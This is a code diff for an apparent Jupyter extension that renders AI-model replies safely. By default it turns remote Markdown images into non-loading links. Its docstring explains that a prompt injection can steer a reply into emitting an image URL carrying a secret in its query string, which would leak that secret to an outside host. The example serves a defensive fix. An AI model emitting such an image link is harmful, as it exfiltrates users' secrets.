@@ -12,6 +12,7 @@ import json
 from abc import ABC, abstractmethod
 from collections.abc import Mapping, Sequence
 from typing import Any
+from urllib.parse import urlsplit
 
 _MUTED = "color: var(--jp-ui-font-color2, #666)"
 _ERROR = "color: var(--jp-error-color1, #c62828)"
@@ -23,21 +24,49 @@ def esc(text: str) -> str:
     return html.escape(text, quote=True)
 
 
+class Images:
+    """Whether replies load their images (`%config OllieMagics.remote_images = True`)."""
+
+    remote = False
+
+
 def markdown_html(markdown: str) -> str:
     """Model text as HTML: Markdown formatting and code blocks kept, raw HTML shown as text.
 
     The reply is untrusted (a prompt injection can steer it), and JupyterLab renders
     text/markdown as trusted HTML in a live session; so the HTML is built here with
     raw HTML off, and markdown-it's link check drops `javascript:` and similar URLs.
+    An image the browser would fetch (`![x](https://host/p.png?k=<secret>)`, each time
+    the notebook opens) is a link naming its host instead, unless `Images.remote`.
     """
-    return _markdown().render(markdown)
+    return _markdown(Images.remote).render(markdown)
 
 
-@functools.lru_cache(maxsize=1)
-def _markdown() -> Any:
+@functools.lru_cache(maxsize=2)
+def _markdown(remote_images: bool) -> Any:
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    if not remote_images:
+        md.add_render_rule("image", _image_as_link)
+    return md
+
+
+def _image_as_link(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """An image as text: `[image: alt (from host, not loaded)]`, a link the user may open."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if src.startswith("data:"):  # inline bytes: nothing to fetch
+        return renderer.image(tokens, idx, options, env)
+    alt = renderer.renderInlineAsText(token.children or [], options, env) or "untitled"
+    try:
+        host = urlsplit(src).hostname or "this Jupyter server"
+    except ValueError:
+        host = "an unreadable address"
+    return (
+        f'<a href="{esc(src)}" rel="noopener noreferrer nofollow" target="_blank">'
+        f"[image: {esc(alt)} (from {esc(host)}, not loaded)]</a>"
+    )
 
 
 def plural(count: int, noun: str) -> str:
